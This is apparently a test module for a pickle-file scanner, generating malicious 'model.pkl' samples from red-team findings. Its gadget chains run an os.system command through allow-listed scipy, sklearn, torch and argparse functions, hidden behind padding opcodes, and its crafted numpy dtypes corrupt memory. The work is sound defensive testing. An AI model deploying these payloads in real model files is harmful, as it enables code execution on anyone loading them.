"""Names on the allow-list that lend themselves: each alone is honest, two together run a payload.

Found by Credenza's own red team, all silent before it: a function that makes an instance of the
class it is given, a method that a loader calls on whatever it finds, a flag that belies a type.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from tests.scan.population import assemble as a
from tests.scan.population.interface import COMMAND, SOURCE, Form, Malicious

_REFERENCE: Final = "Credenza's red team, November 2026"
_NORMAL: Final = a.global_("scipy.stats._continuous_distns:norm_gen")
_ADJUSTS: Final = "\n".join(
    [SOURCE, *(f"def _parse_args{kind}(*_): pass" for kind in ("", "_rvs", "_stats"))]
)
_TEMPLATE: Final = a.value(
    {"_parse_arg_template": _ADJUSTS, "shapes": None, "moment_type": 0, "_ctor_param": {}}
)
"""``rv_generic.__setstate__`` runs the template by `exec`."""
_INNER: Final = a.proto(2) + b"N0" * 3000 + a.call("os:system", a.text(COMMAND)) + a.STOP
"""Behind more opcodes than a look at a constant takes."""
_BYTES: Final = a.raw(_INNER)
_LOADS: Final = a.global_("torch.storage:_load_from_bytes")


def _space(**attributes: bytes) -> bytes:
    return a.build(
        a.call("argparse:Namespace"), a.dict_(*((a.text(k), v) for k, v in attributes.items()))
    )


def _partial(function: bytes, *arguments: bytes) -> bytes:
    state = a.tuple_(function, a.tuple_(*arguments), a.EMPTY_DICT, a.NONE)
    return a.build(a.call("functools:partial", function), state)


_LOADED: Final = a.dict_((a.text("transform"), a.EMPTY_DICT))
_LATER: Final = _partial(
    a.global_("sklearn.pipeline:_transform_one"),
    *(_space(transform=_LOADS), _BYTES, a.NONE, a.NONE, _LOADED),
)
"""Whoever calls it without arguments loads the bytes."""


_INNOCENT: Final = _partial(a.global_("sklearn.base:clone"), a.NONE)
"""Only what it is given decides what it makes."""


def vectors() -> Iterator[Malicious]:
    for name, body in {**_makers(), **_called_back(), **_natives()}.items():
        yield Malicious(
            name=f"lent {name}",
            category="pickle-gadget",
            reference=_REFERENCE,
            files=(("model.pkl", a.pickled(body, protocol=2 if "Python 2" in name else 3)),),
            form=Form.PICKLE,
            live=_LIVE.get(name, ""),
        )


_LIVE: Final = {
    "distribution by Python 2's __newobj__": "pickle",
    "distribution by newObj of a tree": "pickle",
    "distribution by torch": "torch",
    "method in pairs, torch": "torch",
    "keys, torch": "torch",
    "detach, torch": "torch",
}
"""By which loader each is shown to run: importing torch once is enough."""


def _makers() -> dict[str, bytes]:
    """The state of a class is judged by the class, whoever makes the instance."""
    by_torch = a.call(
        "torch._tensor:_rebuild_from_type_v2", _NORMAL, _NORMAL, a.EMPTY_TUPLE, _TEMPLATE
    )
    return {
        "distribution by Python 2's __newobj__": a.build(
            a.call("copy_reg:__newobj__", _NORMAL), _TEMPLATE
        ),
        "distribution by newObj of a tree": a.build(
            a.call("sklearn.neighbors._kd_tree:newObj", _NORMAL), _TEMPLATE
        ),
        "distribution by an index": a.build(
            a.call("pandas.core.indexes.base:_new_Index", _NORMAL, a.EMPTY_DICT), _TEMPLATE
        ),
        "distribution by torch": by_torch,
        "partial by torch": a.call(
            "torch._tensor:_rebuild_from_type_v2",
            *(a.global_("functools:partial"),) * 2,
            a.tuple_(a.global_("builtins:len")),
            a.tuple_(a.global_("builtins:getattr"), a.EMPTY_TUPLE, a.EMPTY_DICT, a.NONE),
        ),
    }


def _called_back() -> dict[str, bytes]:
    """An attribute, by the name of a method that the loader calls."""
    hook = a.list_(a.tuple_(a.text("__setstate__"), _LOADS))
    pairs = a.dict_((a.text("__setstate__"), _LOADS))
    hooked = a.call("collections:OrderedDict", hook)
    reconstructed = a.call(
        "copyreg:_reconstructor",
        *(a.global_("collections:OrderedDict"), a.global_("builtins:dict"), pairs),
    )
    result = a.newobj(a.global_("scipy.optimize._optimize:OptimizeResult"))
    method = result + a.text("__setstate__") + _LOADS + a.SETITEM
    wrapper = a.newobj(a.global_("joblib.numpy_pickle:NumpyArrayWrapper"))
    adam = a.newobj(a.global_("torch.optim.adam:Adam"))
    return {
        "method in a dict's arguments": a.build(
            a.build(a.call("argparse:Namespace"), hooked), _BYTES
        ),
        "method in slots": a.build(
            a.build(a.call("argparse:Namespace"), a.tuple_(a.NONE, hooked)), _BYTES
        ),
        "method in a dict that is reconstructed": a.build(
            a.build(a.call("argparse:Namespace"), reconstructed), _BYTES
        ),
        "method in pairs, torch": a.build(method, _BYTES),
        "detach, torch": a.call(
            "torch._utils:_rebuild_parameter", _space(detach=_LATER), a.value(False), a.NONE
        ),
        "keys, torch": a.call("collections:OrderedDict", _space(keys=_LATER)),
        "keys of a UserDict": a.call("collections:UserDict", _space(keys=_LATER)),
        "read of joblib": a.build(wrapper, a.dict_((a.text("read"), _LATER))),
        "setdefault of an optimizer": a.build(
            adam, a.dict_((a.text("defaults"), _space(setdefault=_LATER)))
        ),
        "startswith of a storage's place": a.tuple_(
            *map(a.text, ("storage",)),
            a.global_("torch:FloatStorage"),
            a.text("0"),
            _space(startswith=_INNOCENT),
            a.value(1),
        )
        + b"Q",
        "setdefault of an optimizer, by a value": a.build(
            adam, a.dict_((a.text("defaults"), _space(setdefault=_INNOCENT)))
        ),
        "a class that opens a file, later": a.call(
            "collections:OrderedDict",
            _space(keys=_partial(a.global_("ultralytics.engine.model:Model"), a.text("x.pt"))),
        ),
    }


def _dtype(code: str, *state: object, fields: bytes = a.NONE) -> bytes:
    version, order, base, names, size, alignment, flags = (a.value(part) for part in state)
    return a.build(
        a.call("numpy:dtype", *map(a.value, (code, False, True))),
        a.tuple_(version, order, base, names, fields, size, alignment, flags),
    )


def _natives() -> dict[str, bytes]:
    """Types that make numpy take a file's bytes for addresses, or read where they say."""
    pointers = _dtype("O8", 3, "|", None, None, -1, -1, 1)
    number = _dtype("f8", 3, "<", None, None, -1, -1, 0)
    far = a.dict_((a.text("a"), a.tuple_(number, a.value(1 << 29))))
    outside = _dtype("V8", 3, "|", None, ("a",), 8, 1, 16, fields=far)
    wide = a.tuple_(number, a.tuple_(a.value(1 << 20)))
    decoy = a.dict_(
        (a.text("a"), a.tuple_(_dtype("O8", 3, "|", None, None, -1, -1, 63), a.value(0)))
    )
    return {
        "pointers out of bytes": _array(pointers),
        "a field outside of its record": _array(outside),
        "a sub-array that is wider than its type": a.build(
            a.call("numpy:dtype", *map(a.value, ("V8", False, True))),
            a.tuple_(*map(a.value, (3, "|")), wide, a.NONE, a.NONE, *map(a.value, (8, 1, 0))),
        ),
        "objects in the fields of a number": _dtype(
            "f8", 3, "<", None, None, -1, -1, 63, fields=decoy
        ),
    }


def _array(dtype: bytes) -> bytes:
    empty = a.call(
        "numpy.core.multiarray:_reconstruct",
        *(a.global_("numpy:ndarray"), a.value((0,)), a.raw(b"b")),
    )
    state = a.tuple_(*map(a.value, (1, (1,))), dtype, a.value(False), a.raw(b"A" * 8))
    return a.build(empty, state)
